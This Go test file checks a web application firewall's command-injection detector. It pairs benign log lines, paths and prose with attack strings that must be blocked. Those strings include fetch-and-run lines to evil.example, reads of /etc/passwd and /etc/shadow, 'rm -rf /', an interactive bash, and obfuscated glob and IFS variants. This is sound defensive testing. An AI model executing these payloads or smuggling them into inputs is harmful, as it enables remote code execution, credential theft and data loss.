package injection

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/edgeward/edgeward/policies"
)

// cmdiShape is one precision change of the command-injection detector (issue 15, benign false
// positives): benign values of the shape it lets pass, read by the shell's grammar, and attacks
// put inside that same shape, which must still be blocked.
type cmdiShape struct {
	name    string
	benign  []string
	attacks []string
}

var cmdiShapes = []cmdiShape{
	{
		// A glob in a command position names a command only if it can expand to a program.
		name:   "glob whose wildcards are in directory names only",
		benign: []string{"/logs-*/_search", "/metrics-*-2024.*/_count", "/app-*/config"},
		attacks: []string{"/logs-*/_search;/???/??t /???/p??s??", "/logs-*/x|/bin/c?t /etc/passwd",
			"/???/??t /???/p??s??", "/b??/cat /etc/passwd", "/logs-*/_search;cat /et?/pas?wd",
			"/[e//]tc/[p//]asswd", "cat /logs-*/../../et?/passwd"},
	},
	{
		// A "[" that no "]" closes is a literal character, not a bracket expression.
		name:    "unclosed bracket in a path",
		benign:  []string{"/rest/pug/compound/name/[Cu(NH3)4]SO4/property/MolecularFormula/JSON", "/name/[Fe(CN)6]K3/json"},
		attacks: []string{"/name/[Cu(NH3)4]SO4;/???/[c]at /etc/passwd", "/name/[Cu(NH3)4]SO4|cat /et[c]/passwd", "/???/[c]at /etc/passwd"},
	},
	{
		// The last backtick of a value opens nothing that runs.
		name: "backtick that nothing closes",
		benign: []string{"Use -v: `awk -v limit=\"$limit\" '$3 > limit { print $1 }'",
			"Postmortem: the nightly cleanup script ran `rm -rf /data/tmp",
			"## Disk full on db-replica\n1. `ssh db-re"},
		attacks: []string{"Use -v: `id` and `awk -v limit=\"$limit\" '$3 > limit { print $1 }'",
			"Use -v: `curl http://evil.example/x | sh` `awk", "ran `rm -rf /data/tmp` then `",
			"## Disk full\n1. `cat /etc/passwd` `ssh db-re", "x `kubectl get secrets -A -o yaml` y `",
			"ran `rm -rf /` `"},
	},
	{
		// rm -rf / counts where the shell reads rm as a command's name, not inside a quoted
		// argument of a query language's line filter.
		name: "rm -rf inside a quoted argument",
		benign: []string{"{service_name=\"cron\"} |= \"rm -rf /tmp/build-\" | label_format who=`{{.user}}`",
			"{job=\"ci\"} |= \"rm -rf /var/cache\"", `{app="cron"} != "rm -f /tmp/lock"`},
		attacks: []string{"{job=\"ci\"} |= \"x\"; rm -rf /var/cache", "{job=\"ci\"} |= \"$(rm -rf /var/cache)\"",
			"{job=\"ci\"} |= \"`rm -rf /var/cache`\"", "\"; rm -rf / #", "rm -rf /", "sudo rm -rf /var/www",
			"x' && rm -rf /home '", "sh -c \"rm -rf /srv\"", "find /tmp -exec rm -rf / {} +", "a=1 rm -rf /",
			"IFS=, rm -rf /srv", strings.Repeat("A", 80) + "=1 rm -rf /", `;""rm -rf /srv`},
	},
	{
		// A wrapper that runs its argument (timeout, time, sudo...) counts where the shell reads
		// it as a command's name, not in a log line's words.
		name: "wrapper word inside a log line",
		benign: []string{"2024-04-29T09:04:11.813Z ERROR pq: canceling statement due to statement timeout (SQLSTATE 57014) query=\"SELECT id FROM tasks WHERE title ILIKE $1\"",
			"Median response time curl reports from the probe is 3s"},
		attacks: []string{"x; timeout 5 id", "sudo whoami", "statement timeout (x);timeout 3 id", "nohup bash -i",
			"query=\"x\" && sudo -u root whoami", "'; sudo whoami; '", "$(timeout 3 id)", "`nohup curl evil.example`"},
	},
	{
		// A fetch (wget, curl with a URL) or a reader of a system path (cat /etc/...) counts
		// where the shell reads the program's name as a command, not as a word of prose or an
		// argument of another instruction.
		name: "fetch or reader named in a sentence",
		benign: []string{"Use curl https://api.example.com/v1/status to check it from outside",
			"HEALTHCHECK CMD wget -qO- http://localhost:3000/healthz || exit 1",
			"the output of cat /etc/os-release says Alpine 3.19"},
		attacks: []string{"x; curl https://evil.example/x -o /tmp/x", "x && cat /etc/passwd", "`wget http://evil.example/s`",
			"/usr/bin/curl http://evil.example/x", "$(cat /etc/shadow)", "use curl https://x\ncurl http://evil.example/s | sh",
			"HEALTHCHECK CMD true; wget http://evil.example/s -O /tmp/s", "c'a't /etc/passwd", "${IFS}cat${IFS}/etc/passwd",
			"/bin/unxz -c /var/log/secure.xz", "a=1 curl http://evil.example/x", "sudo cat /etc/shadow"},
	},
	{
		// sh -c runs a string where sh is a command, not where a sentence names it.
		name:   "shell -c named in a sentence",
		benign: []string{"the job runner wraps every step in bash -c so quoting matters"},
		attacks: []string{"; bash -c 'id'", "x && sh -c \"curl http://evil.example/x\"", "$SHELL -c id", "`sh -c id`",
			"bash -c 'id'", "/bin/sh -c id"},
	},
}

// TestCmdiShapesDetector holds each shape to the detector at the default sensitivity.
func TestCmdiShapesDetector(t *testing.T) {
	for _, sh := range cmdiShapes {
		for _, v := range sh.benign {
			if cmdiAt(v, true, 2) {
				t.Errorf("%s: benign %q flagged", sh.name, v)
			}
		}
		for _, v := range sh.attacks {
			if !cmdiAt(v, true, 2) {
				t.Errorf("%s: attack %q not flagged", sh.name, v)
			}
		}
	}
}

// TestCmdiShapesWrapped sends every value of each shape through the engine with
// envoy/examples/waf.json, in a JSON body, a form body, a query string and (for values that are
// paths) as the request path: the benign ones pass, the attacks inside the shape are blocked.
func TestCmdiShapesWrapped(t *testing.T) {
	e := wafEngine(t)
	for _, sh := range cmdiShapes {
		for _, group := range []struct {
			vals  []string
			block bool
		}{{sh.benign, false}, {sh.attacks, true}} {
			for _, v := range group.vals {
				j, _ := json.Marshal(map[string]any{"note": map[string]string{"text": v}})
				reqs := []injReq{
					{method: "POST", path: "/api/notes", ct: "application/json", body: string(j)},
					{method: "POST", path: "/api/notes", ct: "application/x-www-form-urlencoded", body: "text=" + url.QueryEscape(v)},
					{method: "GET", path: "/search?q=" + url.QueryEscape(v)},
				}
				if v[0] == '/' {
					reqs = append(reqs, injReq{method: "GET", path: (&url.URL{Path: v}).EscapedPath()})
				}
				for _, r := range reqs {
					d, _ := runInj(e, r)
					if blocked := d.Action == policies.Deny && d.Status == 403; blocked != group.block {
						t.Errorf("%s: %s %s (%s) %q: blocked=%v, want %v", sh.name, r.method, r.path, r.ct, v, blocked, group.block)
					}
				}
			}
		}
	}
}

// TestCmdiAtCommandLinear: the patterns read at a command position (cmdiAtCommand) stay linear
// on values made of matches out of position, each of which the search steps past (see
// TestDetectorsLinear for the measurement).
func TestCmdiAtCommandLinear(t *testing.T) {
	for _, unit := range []string{"a timeout 1 id ", "x sudo whoami ", "q rm -rf /x ", "timeout timeout "} {
		small, large := strings.Repeat(unit, 1<<12), strings.Repeat(unit, 1<<15)
		detect := func(s string) func() { return func() { detectAll(s, LocBody, false, famAll, 2) } }
		ratio, ok := growth(detect(small), detect(large), func(r float64) bool { return r <= linearBound })
		t.Logf("%q: %d → %d bytes: %.1fx the time", unit, len(small), len(large), ratio)
		if !ok {
			t.Errorf("%q: %d → %d bytes took %.1fx the time (bound %.0fx): not linear", unit, len(small), len(large), ratio, linearBound)
		}
	}
}

// FuzzCmdiAtCommandPrefilter holds the patterns read at a command position to their triggers, as
// FuzzCmdiPrefilter holds the other direct patterns: a value whose features lack a pattern's
// trigger has no match of it at a command position, so the gate that skips it is sound. (A match
// out of position may lack it: in "0AAA...A^\"rm -f /" the quoting noise joins rm to a word too
// long for the feature scan to look up, and to the shell too, for which that word is no rm.)
func FuzzCmdiAtCommandPrefilter(f *testing.F) {
	for _, sh := range cmdiShapes {
		for _, v := range append(append([]string{}, sh.benign...), sh.attacks...) {
			f.Add(v)
		}
	}
	for _, s := range otherSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		l := strings.ToLower(s)
		for i := range cmdiAtCommand {
			if p := &cmdiAtCommand[i]; matchAtCommand(p.re, l) && cmdiFeatures(s)&p.need == 0 && cmdiFeatures(l)&p.need == 0 {
				t.Fatalf("pattern %d matches %q but its trigger %b is not among its features", i, s, p.need)
			}
		}
		_ = cmdiAt(s, true, 2)
	})
}
